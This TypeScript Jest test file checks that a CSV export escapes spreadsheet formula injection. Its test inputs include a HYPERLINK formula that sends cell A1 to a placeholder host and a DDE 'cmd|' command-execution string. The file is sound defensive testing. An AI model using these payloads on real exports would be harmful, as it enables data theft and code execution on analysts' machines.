import { describe, expect, it } from '@jest/globals';
import { toCsv } from './stats-export.js';

const csv = (cells: Array<string | number | null>) => toCsv({ title: 't', columns: ['value', 'count'], rows: cells.map((c) => [c, 1]) }).toString('utf8');

// Found trying the exports as an attacker would: a transit point written as a formula ran in the analyst's spreadsheet.
describe('CSV exports cannot run code in a spreadsheet', () => {
  it.each([
    ['=HYPERLINK("http://example.test/?"&A1,"Nunukan")', `"'=HYPERLINK(""http://example.test/?""&A1,""Nunukan"")"`],
    ['+62 812 3456', `"'+62 812 3456"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['\tTawau', `"'\tTawau"`],
    ['\rTarakan', `"'\rTarakan"`],
    ['\uFF1D1+1', `"'\uFF1D1+1"`],
  ])('escapes %j as OWASP describes: a leading quote, inside double quotes', (value, cell) => {
    expect(csv([value]).split('\n')[1]).toBe(`${cell},1`);
  });

  it('leaves other text, numbers and the suppression mark as they were', () => {
    expect(csv(['Nunukan', 'a=b', 'Pelabuhan "Tunon Taka"', null, 3])).toBe('\uFEFFvalue,count\nNunukan,1\na=b,1\n"Pelabuhan ""Tunon Taka""",1\ns,1\n3,1\n');
    // A negative number is quoted but keeps no leading quote: a spreadsheet still reads it as the number.
    expect(toCsv({ title: 't', columns: ['n'], rows: [[-5]] }).toString('utf8')).toBe('\uFEFFn\n"-5"\n');
  });
});
